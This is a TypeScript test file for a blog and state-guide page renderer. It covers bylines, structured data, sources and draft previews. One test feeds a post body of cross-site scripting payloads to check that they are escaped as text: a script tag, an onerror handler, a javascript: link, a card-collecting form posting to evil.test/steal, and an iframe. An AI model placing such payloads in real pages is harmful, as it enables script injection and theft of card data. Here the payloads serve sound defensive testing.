import { Hono } from 'hono';
import { JSDOM } from 'jsdom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PageCache } from '#server/page-rendering/page-cache.ts';
import { createPageHandler } from '#server/page-rendering/page-handler.ts';
import { siteInfo } from '#server/site-settings/site-info.ts';
import { callToAction } from '#content/calls-to-action.ts';
import { noNewsletterArchive } from '#shared/newsletter-archive.ts';
import { fillCopy, placeholderValues } from '#shared/placeholders.ts';
import { entryPreviewUrl } from '#shared/preview.ts';
import { noSocialProof } from '#shared/social-proof.ts';
import { signedInAdmin } from '#tests/admin-factory.ts';
import { jsonLdOf } from '#tests/html.ts';
import {
  insertDraftEntry,
  insertPerson,
  insertPublishedEntry,
  postContent,
  saveDraft,
  stateGuideContent,
} from '#tests/published-entry-factory.ts';
import { createTestApp, type TestApp } from '#tests/test-app.ts';
import { loadAppBuildThroughVite, type ViteAppBuild } from '#tests/vite-app-build.ts';
import { entryPreview } from './entry-preview.ts';

const noForms = {
  startCheckout: () => Promise.reject(new Error('no forms here')),
  subscribe: () => Promise.reject(new Error('no forms here')),
  contact: () => Promise.reject(new Error('no forms here')),
  guideOnSale: () => Promise.resolve(true),
  paymentProvider: 'test' as const,
  quoteDiscount: () => Promise.reject(new Error('no forms here')),
  reviewLink: () => Promise.reject(new Error('no forms here')),
  submitReview: () => Promise.reject(new Error('no forms here')),
  requestLibraryLink: () => Promise.reject(new Error('no forms here')),
  libraryView: () => Promise.resolve(undefined),
};

let vite: ViteAppBuild;
let t: TestApp;
let app: Hono;

beforeAll(async () => {
  [vite, t] = await Promise.all([loadAppBuildThroughVite(), createTestApp('pglite')]);
  const { ctx } = t;
  const pages = createPageHandler({
    loadBuild: () => vite.build,
    dev: false,
    cache: new PageCache({ maxEntries: 50, maxBytes: 50_000_000 }, undefined, (pathname) =>
      ctx.published.current().pageAt(pathname),
    ),
    site: () => siteInfo(ctx.settings.current(), ctx.config),
    socialProof: () => noSocialProof,
    newsletterArchive: noNewsletterArchive,
    published: () => ctx.published.current(),
    forms: noForms,
    contentImages: () => undefined,
    entryPreview: entryPreview(ctx),
  });
  app = new Hono();
  app.all('*', pages);
}, 120_000);

afterAll(async () => {
  await Promise.all([vite.close(), t.dispose()]);
});

const get = (path: string, cookie?: string) =>
  app.request(path, { headers: cookie ? { Cookie: cookie } : {} });

async function page(path: string, cookie?: string) {
  const response = await get(path, cookie);
  const html = await response.text();
  return { response, html, document: new JSDOM(html).window.document };
}

const articleOf = (html: string) => {
  const article = jsonLdOf(html).find((block) => block['@type'] === 'Article');
  if (!article) throw new Error('no Article block');
  return article;
};

describe('a post with a hostile body', () => {
  const hostile = [
    '## Hello',
    '',
    '<script>document.title = "owned"</script>',
    '',
    'An image <img src="x" onerror="alert(1)"> and a [click](javascript:alert(1)) link.',
    '',
    '<form action="https://evil.test/steal"><input name="card"></form>',
    '',
    '<iframe src="https://evil.test/frame"></iframe>',
    '',
    'Costs {{nosuch}} and {{price}}.',
  ].join('\n');

  it('shows its words as text and none of its markup, and every other page stays whole', async () => {
    const content = postContent({ title: 'Hostile <b>title</b>', body: hostile });
    await insertPublishedEntry(t.ctx, content);
    const { response, html, document } = await page(`/blog/${content.slug}`);
    expect(response.status).toBe(200);
    // The seller's text: every `.content-html` block of the page (the page's own sign-up form stays).
    const blocks = [...document.querySelectorAll('.content-html')];
    expect(blocks.length).toBe(1);
    for (const block of blocks) {
      expect(block.querySelectorAll('script, iframe, form, input, [onerror]')).toHaveLength(0);
      expect(block.querySelector('a[href^="javascript"]')).toBeNull();
    }
    const body = blocks[0];
    expect(html).not.toContain('evil.test/frame"');
    expect(body?.textContent).not.toContain('{{nosuch}}');
    expect(body?.textContent).toContain('Costs  and $');
    // The markup is shown as the words it is.
    expect(body?.textContent).toContain('<script>document.title = "owned"</script>');
    expect(document.querySelector('h1')?.textContent).toBe('Hostile <b>title</b>');

    for (const other of [
      '/blog',
      '/blog/child-support-agency-violations',
      '/states/texas-child-support',
    ]) {
      const seen = await page(other);
      expect(seen.response.status, other).toBe(200);
      expect(
        seen.document.querySelectorAll('main script, main iframe, main [onerror]'),
      ).toHaveLength(0);
      expect(seen.document.querySelector('h1')).not.toBeNull();
    }
  });
});

describe('a post with its author, reviewer and sources', () => {
  it('names them, with their pages, the review date and the sources, and says so in its JSON-LD', async () => {
    const author = await insertPerson(t.ctx, {
      name: 'Dana Writer',
      slug: 'dana-writer',
      credentials: 'J.D.',
      bio: 'Writes about support orders.\n\nLives in Ohio.',
    });
    const reviewer = await insertPerson(t.ctx, { name: 'Rae Reviewer', slug: 'rae-reviewer' });
    const content = postContent({
      authorId: author.id,
      reviewerId: reviewer.id,
      sources: [
        {
          title: '42 U.S.C. § 666',
          url: 'https://www.law.cornell.edu/uscode/text/42/666',
          supports: 'the federal procedures',
          verifiedOn: '2026-11-15',
        },
      ],
    });
    await insertPublishedEntry(t.ctx, content, {
      publishedOn: '2026-10-01',
      updatedOn: '2026-11-20',
      reviewedOn: '2026-11-18',
    });
    const { html, document } = await page(`/blog/${content.slug}`);
    const article = document.querySelector('article');
    const text = article?.textContent ?? '';
    expect(text).toContain('Written by Dana Writer, J.D.');
    expect(text).toContain('Reviewed by Rae Reviewer');
    expect(text).toContain(
      'Published October 1, 2026 · Updated November 20, 2026 · Last reviewed November 18, 2026',
    );
    expect(article?.querySelector('a[href="/authors/dana-writer"]')?.textContent).toBe(
      'Dana Writer',
    );
    expect(article?.querySelector('a[href="/authors/rae-reviewer"]')).not.toBeNull();
    const sources = [...(article?.querySelectorAll('section') ?? [])].find(
      (section) => section.querySelector('h2')?.textContent === 'Sources',
    );
    expect(sources?.textContent).toContain(
      '42 U.S.C. § 666: the federal procedures (verified November 15, 2026)',
    );
    expect(sources?.querySelector('a')?.getAttribute('href')).toBe(
      'https://www.law.cornell.edu/uscode/text/42/666',
    );

    const block = articleOf(html);
    expect(block.author).toEqual({
      '@type': 'Person',
      name: 'Dana Writer',
      url: 'http://shop.test/authors/dana-writer',
      jobTitle: 'J.D.',
    });
    expect(block.reviewedBy).toEqual({
      '@type': 'Person',
      name: 'Rae Reviewer',
      url: 'http://shop.test/authors/rae-reviewer',
    });
    expect(block.datePublished).toBe('2026-10-01');
    expect(block.dateModified).toBe('2026-11-20');
    expect(block.citation).toEqual([
      {
        '@type': 'CreativeWork',
        name: '42 U.S.C. § 666',
        url: 'https://www.law.cornell.edu/uscode/text/42/666',
      },
    ]);

    // The author's own page lists the post; the reviewer's lists it as reviewed.
    const profile = await page('/authors/dana-writer');
    expect(profile.response.status).toBe(200);
    expect(profile.document.querySelector('h1')?.textContent).toBe('Dana Writer');
    const main = profile.document.querySelector('main')?.textContent ?? '';
    expect(main).toContain('J.D.');
    expect(main).toContain('Lives in Ohio.');
    expect(main).toContain(`Written by Dana Writer${content.title}`);
    expect(jsonLdOf(profile.html).find((item) => item['@type'] === 'ProfilePage')).toMatchObject({
      '@type': 'ProfilePage',
      url: 'http://shop.test/authors/dana-writer',
      mainEntity: {
        '@type': 'Person',
        name: 'Dana Writer',
        description: 'Writes about support orders.\n\nLives in Ohio.',
      },
    });
    const reviewed = await page('/authors/rae-reviewer');
    expect(reviewed.document.querySelector('main')?.textContent).toContain(
      `Reviewed by Rae Reviewer${content.title}`,
    );
    expect((await get('/authors/nobody-here')).status).toBe(404);
  });

  it('a post without them shows no byline, no sources and the organisation as author', async () => {
    const content = postContent();
    await insertPublishedEntry(t.ctx, content);
    const { html, document } = await page(`/blog/${content.slug}`);
    const text = document.querySelector('article')?.textContent ?? '';
    expect(text).not.toMatch(/Written by|Reviewed by|Last reviewed|Sources/);
    const block = articleOf(html);
    expect(block.author).toMatchObject({ '@type': 'Organization' });
    expect(block).not.toHaveProperty('reviewedBy');
    expect(block).not.toHaveProperty('citation');
  });
});

describe('a state guide from its sections', () => {
  it('shows its non-empty sections in order, the call to action after the last before its place', async () => {
    const content = stateGuideContent();
    await insertPublishedEntry(t.ctx, content);
    const { document } = await page(`/states/${content.slug}`);
    const headings = [...document.querySelectorAll('article h2')].map((h) => h.textContent);
    const cta = fillCopy(
      callToAction,
      placeholderValues(siteInfo(t.ctx.settings.current(), t.ctx.config)),
    ).heading;
    // Overview and deadline, the call to action after the deadline (the sections up to its
    // place are empty), then the next steps; the empty sections have no heading.
    expect(headings.slice(0, 4)).toEqual([
      'How orders work in Ohio',
      'The deadline',
      cta,
      'What to do this week',
    ]);
  });
});

describe('the preview of an entry’s working copy', () => {
  it('shows a publisher the draft, privately; anyone else gets the published page', async () => {
    const content = postContent({ title: 'Published title' });
    const id = await insertPublishedEntry(t.ctx, content);
    await saveDraft(t.ctx, id, { ...content, title: 'Draft title', body: 'Draft words only.' });
    const url = entryPreviewUrl(`/blog/${content.slug}`, id);

    const anonymous = await page(url);
    expect(anonymous.document.querySelector('h1')?.textContent).toBe('Published title');

    const support = await signedInAdmin(t, { role: 'support' });
    const bySupport = await page(url, support.cookie);
    expect(bySupport.document.querySelector('h1')?.textContent).toBe('Published title');

    for (const role of ['owner', 'editor'] as const) {
      const { cookie } = await signedInAdmin(t, { role });
      const seen = await page(url, cookie);
      expect(seen.document.querySelector('h1')?.textContent, role).toBe('Draft title');
      expect(seen.document.querySelector('article')?.textContent).toContain('Draft words only.');
      expect(seen.response.headers.get('cache-control')).toBe('private, no-store');
      expect(seen.response.headers.get('x-robots-tag')).toBe('noindex');
      expect(seen.html).toContain('<meta name="robots" content="noindex"/>');
    }
    // The preview never reached the cache: the public page is still the published one.
    const after = await page(`/blog/${content.slug}`);
    expect(after.document.querySelector('h1')?.textContent).toBe('Published title');
  });

  it('shows an entry never published at its draft’s path, to a publisher only', async () => {
    const content = postContent({ title: 'Never published' });
    const id = await insertDraftEntry(t.ctx, content);
    const url = entryPreviewUrl(`/blog/${content.slug}`, id);
    expect((await get(url)).status).toBe(404);
    const { cookie } = await signedInAdmin(t, { role: 'editor' });
    const seen = await page(url, cookie);
    expect(seen.response.status).toBe(200);
    expect(seen.document.querySelector('h1')?.textContent).toBe('Never published');
    expect((await get(entryPreviewUrl(`/blog/${content.slug}`, 999_999), cookie)).status).toBe(404);
  });
});
